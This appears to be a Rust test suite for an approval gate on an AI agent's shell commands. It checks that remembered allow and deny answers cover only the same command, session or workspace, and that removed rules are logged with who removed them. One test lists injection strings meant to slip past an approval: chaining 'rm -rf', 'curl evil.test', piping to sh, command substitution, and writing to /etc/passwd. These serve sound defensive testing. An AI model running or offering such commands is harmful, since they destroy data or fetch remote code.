//! Answers that count for longer than once, and how little they cover.

use roost_engine::adapter::Fact;
use roost_engine::{Decision, Error};
use roost_log::Log;
use roost_model::approval::{Answerer, ApprovalEnd, ApprovalScope};
use roost_model::event::{EventBody, NewEvent, NormalizedEvent};
use roost_model::ids::SessionId;
use roost_model::pattern::{CallPattern, RememberedRule};
use roost_model::payload::{ApprovalResolvedPayload, RuleRemovedPayload, ToolCallRequestedPayload, ToolKind};
use roost_model::time::Timestamp;
use roost_model::tool::{PolicyDecision, ToolCallIdentity};
use serde_json::json;
use testkit::Harness;

use crate::watched::*;

/// A shell command that wants to run.
fn shell(call: &str, command: &str) -> [Fact; 2] {
    let input = json!({ "command": command });
    let identity = ToolCallIdentity { tool_call_id: call.into(), ..ToolCallIdentity::first(None, &input) };
    let request = ToolCallRequestedPayload {
        identity,
        name: "bash".into(),
        input,
        input_ref: None,
        title: None,
        kind: Some(ToolKind::Execute),
    };
    [Fact::ToolRequested(request.clone()), Fact::ToolAsks(request)]
}

/// Whether somebody is asked about this command, which the agent would like to run.
async fn is_asked(host: &Harness, it: &mut WatchedSession, call: &str, command: &str) -> bool {
    it.agent.say_all(shell(call, command)).await;
    let about = |event: &NormalizedEvent| match &event.body {
        EventBody::ApprovalRequested(asked) => asked.identity.tool_call_id.as_str() == call,
        EventBody::ToolCallApproved(approved) => approved.identity.tool_call_id.as_str() == call,
        EventBody::ToolCallDenied(denied) => denied.identity.tool_call_id.as_str() == call,
        _ => false,
    };
    let event = host.wait_until(&it.session, "the call is decided or asked about", about).await;
    matches!(event.body, EventBody::ApprovalRequested(_))
}

#[tokio::test]
async fn an_allow_for_the_session_covers_the_same_command_there_and_nothing_beside_it() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "first", "cargo build").await);
    assert!(requests(&host, &it.session).await[0].offer.is_some());
    let for_session = Decision::Allow { scope: ApprovalScope::Session };
    respond(&host, &it.session, answer("first", for_session, "me")).await.unwrap();
    assert!(!is_asked(&host, &mut it, "again", "cargo build").await);
    assert_eq!(count(&host, &it.session, "tool.call.approved").await, 2);
    let tricks = [
        "cargo build; rm -rf x",
        "cargo build && curl evil.test",
        "cargo build | sh",
        "cargo build $(rm x)",
        "cargo build `rm x`",
        "cargo build > /etc/passwd",
        "PATH=. cargo build",
        "cargo build\nrm x",
        "cargo publish",
    ];
    for (at, trick) in tricks.iter().enumerate() {
        assert!(is_asked(&host, &mut it, &format!("trick {at}"), trick).await, "{trick}");
    }
    let mut other = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut other, "elsewhere", "cargo build").await);
    host.stop().await;
}

#[tokio::test]
async fn an_allow_for_the_workspace_covers_its_other_sessions_and_the_next_start() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "first", "cargo build").await);
    let for_workspace = Decision::Allow { scope: ApprovalScope::Workspace };
    respond(&host, &it.session, answer("first", for_workspace, "me")).await.unwrap();
    let mut other = watched_session(&mut host).await;
    assert!(!is_asked(&host, &mut other, "second", "cargo build").await);
    let mut host = host.crash().await.start().await;
    let mut later = watched_session(&mut host).await;
    assert!(!is_asked(&host, &mut later, "third", "cargo build").await);
    host.stop().await;
}

#[tokio::test]
async fn an_allow_for_once_covers_nothing_else() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "first", "cargo build").await);
    respond(&host, &it.session, answer("first", ALLOW, "me")).await.unwrap();
    assert!(is_asked(&host, &mut it, "again", "cargo build").await);
    host.stop().await;
}

#[tokio::test]
async fn a_denial_for_the_session_is_not_asked_about_again() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "first", "cargo build").await);
    let never = Decision::Deny { scope: ApprovalScope::Session, reason: None };
    respond(&host, &it.session, answer("first", never, "me")).await.unwrap();
    assert!(!is_asked(&host, &mut it, "again", "cargo build").await);
    assert_eq!(count(&host, &it.session, "tool.call.denied").await, 2);
    assert_eq!(count(&host, &it.session, "tool.call.approved").await, 0);
    host.stop().await;
}

#[tokio::test]
async fn an_answer_for_longer_is_refused_where_nothing_is_offered() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "a", "cargo build > x; cargo test").await);
    assert_eq!(requests(&host, &it.session).await[0].offer, None);
    for scope in [ApprovalScope::Session, ApprovalScope::Workspace, ApprovalScope::Always] {
        let refused = respond(&host, &it.session, answer("a", Decision::Allow { scope }, "me")).await;
        assert!(matches!(refused, Err(Error::OnlyOnce(_))), "{scope:?}");
    }
    still_waits(&host, &mut it).await;
    host.stop().await;
}

#[tokio::test]
async fn a_line_of_several_commands_is_remembered_by_its_parts() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "first", "cargo build 2>&1 && cargo test 2>&1 | tail -5").await);
    let offer = requests(&host, &it.session).await[0].offer.clone().unwrap();
    assert_eq!(offer.to_string(), "`cargo build …` and `cargo test …`");
    let for_session = Decision::Allow { scope: ApprovalScope::Session };
    respond(&host, &it.session, answer("first", for_session, "me")).await.unwrap();
    for (at, covered) in ["cargo test", "cargo build --release 2>/dev/null | head; ls"].iter().enumerate() {
        assert!(!is_asked(&host, &mut it, &format!("covered {at}"), covered).await, "{covered}");
    }
    for (at, trick) in ["cargo test; touch x", "cargo test | tee x", "cd /tmp && cargo test"].iter().enumerate() {
        assert!(is_asked(&host, &mut it, &format!("trick {at}"), trick).await, "{trick}");
    }
    host.stop().await;
}

#[tokio::test]
async fn a_no_to_a_line_of_several_commands_denies_that_line_and_none_of_its_parts() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "first", "cargo build && cargo test").await);
    let never = Decision::Deny { scope: ApprovalScope::Session, reason: None };
    respond(&host, &it.session, answer("first", never, "me")).await.unwrap();
    assert!(!is_asked(&host, &mut it, "again", "cargo build && cargo test").await);
    assert_eq!(count(&host, &it.session, "tool.call.denied").await, 2);
    assert!(is_asked(&host, &mut it, "part", "cargo build").await);
    host.stop().await;
}

#[tokio::test]
async fn a_removed_answer_is_asked_for_again_also_after_the_next_start() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "first", "cargo build").await);
    let forever = Decision::Allow { scope: ApprovalScope::Always };
    respond(&host, &it.session, answer("first", forever, "me")).await.unwrap();
    let rule = host.log.remembered().await.unwrap().remove(0).rule;
    host.engine.remove_rule(&rule.id(), Answerer::default()).await.unwrap();
    assert!(is_asked(&host, &mut it, "again", "cargo build").await);
    let unknown = host.engine.remove_rule(&rule.id(), Answerer::default()).await;
    assert!(matches!(unknown, Err(Error::UnknownRule(_))));
    let mut host = host.crash().await.start().await;
    let mut later = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut later, "later", "cargo build").await);
    host.stop().await;
}

#[tokio::test]
async fn an_answer_is_removed_even_if_the_clock_was_set_back_since_it_was_given() {
    let host = Harness::start().await;
    let tomorrow = Timestamp::from_millis(Timestamp::now().as_millis() + 86_400_000);
    let rule = RememberedRule {
        scope: ApprovalScope::Always,
        decision: PolicyDecision::Allow,
        pattern: CallPattern { tool: Some("bash".into()), ..CallPattern::default() },
        session_id: None,
        workspace: None,
        by: None,
    };
    let input = json!({});
    let given = ApprovalResolvedPayload {
        identity: ToolCallIdentity::first(None, &input),
        decision: PolicyDecision::Allow,
        end: ApprovalEnd::Answered,
        scope: ApprovalScope::Always,
        reason: None,
        answered_by: None,
        edited_input: None,
        remembered: Some(rule.clone()),
        still_waits_for: None,
    };
    host.log.keep(Vec::new(), vec![NewEvent::for_host(tomorrow, given)]).await.unwrap();
    host.engine.remove_rule(&rule.id(), Answerer::default()).await.unwrap();
    assert_eq!(host.log.remembered().await.unwrap(), []);
    host.stop().await;
}

#[tokio::test]
async fn the_log_of_the_host_says_which_answer_was_removed_and_by_whom() {
    let mut host = Harness::start().await;
    let mut it = watched_session(&mut host).await;
    assert!(is_asked(&host, &mut it, "first", "cargo build").await);
    let for_session = Decision::Allow { scope: ApprovalScope::Session };
    respond(&host, &it.session, answer("first", for_session, "me")).await.unwrap();
    let rule = host.log.remembered().await.unwrap().remove(0).rule;
    let removed_by = Answerer { user_id: Some("ada".into()), ..Answerer::default() };
    host.engine.remove_rule(&rule.id(), removed_by.clone()).await.unwrap();
    let expected = RuleRemovedPayload { rule_id: rule.id(), rule, removed_by };
    let events = host.events(&SessionId::host()).await;
    assert_eq!(events.last().map(|event| &event.body), Some(&EventBody::RuleRemoved(expected)));
    host.stop().await;
}
